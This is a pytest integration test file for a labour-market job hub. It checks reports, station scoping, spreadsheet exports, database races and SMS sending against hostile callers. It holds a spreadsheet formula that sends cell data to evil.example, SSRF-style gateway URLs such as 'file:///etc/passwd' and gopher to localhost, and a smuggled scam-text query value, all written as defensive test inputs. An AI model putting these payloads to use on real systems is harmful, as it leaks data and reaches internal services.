"""A hostile caller against the routes that landed on 2026-12-03 (trust, outcomes, 即时快招), in
process: what another station's staff, a phone script or a spreadsheet could make of them."""

import io
import re
import threading

import pytest
from sqlalchemy import func, select

from hub.staff.models import Role
from hub.staff.service import Principal
from hub.stations.models import Station
from hub.trust import service as trust
from hub.trust.models import Report, ReportReason
from tests.integration.test_console_lists import signed_in
from tests.integration.test_outreach import market, publish, staff_client  # noqa: F401 (fixtures)
from tests.support.console import csrf_of as console_csrf
from tests.support.hub import posting_body

STATION_2 = Principal(99, "s2", Role.STATION, frozenset({2}))
# A kiosk named so by a station's staff (the console's device enrolment takes any name up to 60).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def csrf_of(page: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)


def reports_of(hub, pid: int) -> list[Report]:
    with hub.app.state.db.read() as s:
        return list(s.scalars(select(Report).where(Report.posting_id == pid)))


@pytest.fixture
def db_url(sqlite_url):
    return sqlite_url


def test_phone_reports_and_the_bureaus_workbook_resist_a_hostile_caller(hub):
    from openpyxl import load_workbook

    # 举报 from a phone page: a posting shown only at station 1, reported "from station 2"
    pid = hub.ok("POST", "/api/v1/postings", json=posting_body(title="只在一号站", station_ids=[1]))["id"]
    token = csrf_of(hub.client.get(f"/p/{pid}?s=1").text)
    r = hub.client.post(f"/p/{pid}/report", data={"reason": "fees", "station": "2", "csrf_token": token})
    assert r.status_code == 200 and "举报已收到" in r.text
    [row] = reports_of(hub, pid)
    assert row.station_id != 2  # station 2 does not show it: its staff must not be handed the report
    with hub.app.state.db.read() as s:
        assert pid not in {p.id for _r, p in trust.reports_for(s, STATION_2)}

    # one address (or one phone) reporting one posting over and over: not one more count each time
    for _ in range(10):
        again = hub.client.post(f"/p/{pid}/report", data={"reason": "pay", "csrf_token": token})
        assert again.status_code == 200 and "举报已收到" in again.text
    for _ in range(3):
        hub.client.post(f"/p/{pid}/report", data={"reason": "pay", "phone": "13912345678", "csrf_token": token})
    assert len(reports_of(hub, pid)) == 3  # (the first, and two more from that address)

    # a flood of reports about other stations' postings does not push station 1's out of its staff's sight
    station_1 = Principal(98, "s1", Role.STATION, frozenset({1}))
    elsewhere = hub.ok("POST", "/api/v1/postings", json=posting_body(title="二号站的活", station_ids=[2]))["id"]
    with hub.app.state.db.write() as s:
        for _ in range(320):
            trust.report(s, elsewhere, ReportReason.OTHER, via="phone", reporter="")
    with hub.app.state.db.read() as s:
        assert pid in {p.id for _r, p in trust.reports_for(s, station_1)}

    # a posting held for review (or sent back) is on no page: neither its 410 nor the report form names it
    held = hub.ok("POST", "/api/v1/postings", json=posting_body(title="押金保安", requirements="入职交押金200元"))["id"]
    gone = hub.client.get(f"/p/{held}")
    assert gone.status_code == 410 and "押金保安" not in gone.text
    for data in ({"reason": ""}, {"reason": "fees"}):
        answer = hub.client.post(f"/p/{held}/report", data={**data, "csrf_token": token})
        assert answer.status_code in (200, 422) and "押金保安" not in answer.text
    assert len(reports_of(hub, held)) == 1  # (the report itself is kept: someone saw it somewhere)

    # the labour bureau's workbook: a name a station gave its kiosk is text, never a formula
    hub.ok("POST", "/api/v1/devices", json={"name": FORMULA, "kind": "kiosk", "station_id": 1})
    client = signed_in(hub, "bureau")
    answer = client.get("/staff/outcomes.xlsx")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert FORMULA in [c.value for c in cells]  # (kept, as the text it is)
    with hub.app.state.db.write() as s:  # a station's name heads the note under a station's own funnel
        s.get(Station, 1).name = "=1+1"
    mine = signed_in(hub, "station-one", role="station", stations=[1]).get("/staff/outcomes.xlsx")
    book = load_workbook(io.BytesIO(mine.content))
    assert [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    client = signed_in(hub, "bureau-again")

    # a link's ?sent= is the console's own count of texts, never words a link sends staff
    spoken = client.get(f"/staff/outreach/postings/{pid}", params={"sent": "请立即拨打13800000000核实-0"})
    assert spoken.status_code == 200 and "13800000000" not in spoken.text
    assert 'id="sent"' in client.get(f"/staff/outreach/postings/{pid}?sent=2-1").text


def race(db, first, second) -> str:
    """`first` in a transaction left open while `second` runs in another (a second staff member or
    phone at the same moment); then `first` commits. What `second` met: its answer or its error."""
    answers = []

    def other():
        try:
            with db.write() as s:
                answers.append(second(s))
        except Exception as exc:  # (what the second met is the point)
            answers.append(type(exc).__name__)

    one = db.write()
    first(one.__enter__())
    thread = threading.Thread(target=other)
    thread.start()
    thread.join(1.0)  # (it waits for the first, or runs on with what it read too early)
    one.__exit__(None, None, None)
    thread.join(10)
    return answers[0]


def test_two_at_once_on_postgresql_neither_pass_the_fast_cap_nor_answer_500(tmp_path, pg_url):
    """PostgreSQL (read committed; SQLite's IMMEDIATE writes serialise already): two staff marking
    即时快招 at once each counted room for one more; two phones opening a wall's code at once each
    found no row for the day and inserted one (the second: a 500 on the phone page)."""
    import datetime as dt

    from hub import admin
    from hub.db import Database
    from hub.devices.models import Device, DeviceKind
    from hub.outcomes import service as outcomes
    from hub.outcomes.models import QrScanDay
    from hub.postings import fast
    from hub.postings.models import Posting
    from hub.settings import Settings
    from tests.support.hub import open_postings

    admin.seed_hub(Settings(home=tmp_path / "hub", database_url=pg_url), 12, 7)
    db = Database(pg_url)
    admin_ = Principal(1, "admin", Role.ADMIN, frozenset())
    first, second, third = open_postings(db, 1)[:3]
    now = dt.datetime.now(dt.UTC)
    mark = dict(by=admin_, now=now, hours=1, card_min=5, per_station=2)
    try:
        with db.write() as s:
            fast.start(s, first, **mark)
        answer = race(db, lambda s: fast.start(s, second, **mark), lambda s: fast.start(s, third, **mark))
        assert answer == "Conflict"
        with db.read() as s:
            assert s.scalar(select(func.count()).select_from(Posting).where(Posting.fast_to > now)) == 2

        with db.write() as s:
            wall = Device(name="大屏", kind=DeviceKind.DISPLAY, station_id=1)
            s.add(wall)
            s.flush()
            wall_id = wall.id
        scan = lambda s: outcomes.record_scan(s, wall_id, "cards", now.date())
        assert race(db, scan, scan) is True
        with db.read() as s:
            assert s.get(QrScanDay, (wall_id, now.date(), "cards")).scans == 2
    finally:
        db.dispose()


def test_the_hub_answers_others_while_a_text_waits_for_the_gateway(hub, market):  # noqa: F811
    """Review finding: 发短信 ran the gateway's HTTP calls (3 tries, 5 s each, per worker) inside an
    async route and a write transaction, so the hub answered nobody while it texted."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    answered = []  # per message: did the hub answer another caller while the gateway held it?

    class SlowGateway(BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            done = threading.Event()
            threading.Thread(target=lambda: (hub.client.get("/healthz"), done.set()), daemon=True).start()
            answered.append(done.wait(2.0))  # (returns at once when the hub is free)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), SlowGateway)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        settings = hub.app.state.settings
        settings.sms_webhook_url = f"http://127.0.0.1:{server.server_address[1]}/send"
        settings.sms_webhook_secret = "s"
        client = staff_client(hub, "sms-hostile")
        pid = publish(hub)
        token = console_csrf(client.get(f"/staff/outreach/postings/{pid}").text)
        sent = client.post(f"/staff/outreach/postings/{pid}/notify", data={"csrf_token": token}, follow_redirects=False)
        assert sent.status_code == 303 and answered and all(answered)
    finally:
        server.shutdown()
        server.server_close()


def test_an_sms_gateway_that_is_no_http_address_is_refused_when_the_hub_starts(tmp_path):
    """Else every 发短信 press answered 500 (the channel refused it only then)."""
    from pydantic import ValidationError

    from hub.settings import Settings

    for bad in ("sms.city.example.cn/send", "file:///etc/passwd", "gopher://127.0.0.1:25/", "https://"):
        with pytest.raises(ValidationError):
            Settings(home=tmp_path, sms_webhook_url=bad)
    assert Settings(home=tmp_path, sms_webhook_url="https://sms.city.example.cn/send").sms_webhook_url


def test_two_staff_texting_one_posting_at_once_text_each_worker_once(tmp_path, pg_url):
    """Review finding: on PostgreSQL two 发短信 at once each read the notices committed before
    either, so both texted the same worker (then the second answered 500 on the unique key). Now a
    worker is claimed by the notice's unique key before anything is sent."""
    import datetime as dt

    from hub import admin
    from hub.db import Database
    from hub.outreach import notify
    from hub.outreach.models import OutreachCall
    from hub.settings import Settings
    from hub.workers.models import Worker
    from tests.support.hub import open_postings

    admin.seed_hub(Settings(home=tmp_path / "hub", database_url=pg_url), 6, 7)
    db = Database(pg_url)
    now = dt.datetime.now(dt.UTC)
    sent, failures = [], []

    class Gateway:  # a channel that keeps what it was handed (the webhook itself is tested with a server)
        def send(self, phone: str, text: str) -> bool:
            sent.append(phone)
            return True

    try:
        pid = open_postings(db, 1)[0]
        with db.write() as s:
            w = Worker(id_hash="h" * 64, id_masked="110105********0011", phone="13900000009", registered_at=now)
            w.contact_consent_at, w.registered_station_id = now, 1
            s.add(w)
            s.flush()
            s.add(OutreachCall(posting_id=pid, worker_id=w.id, station_id=1, rank=1, score=1.0, reasons=[]))
        texting = dict(cap=2, today=now.date(), stations=None)
        one = db.write()
        _counts, first = notify.claim(one.__enter__(), pid, **texting)  # the first press, not committed yet

        def other_staff():
            try:
                with db.write() as s:
                    _counts, claims = notify.claim(s, pid, **texting)
                notify.send(Gateway(), claims)
            except Exception as exc:  # (what the second press met is part of the finding)
                failures.append(type(exc).__name__)

        thread = threading.Thread(target=other_staff)
        thread.start()
        thread.join(1.0)
        one.__exit__(None, None, None)
        notify.send(Gateway(), first)
        thread.join(10)
        assert (sent, failures) == (["13900000009"], [])
    finally:
        db.dispose()
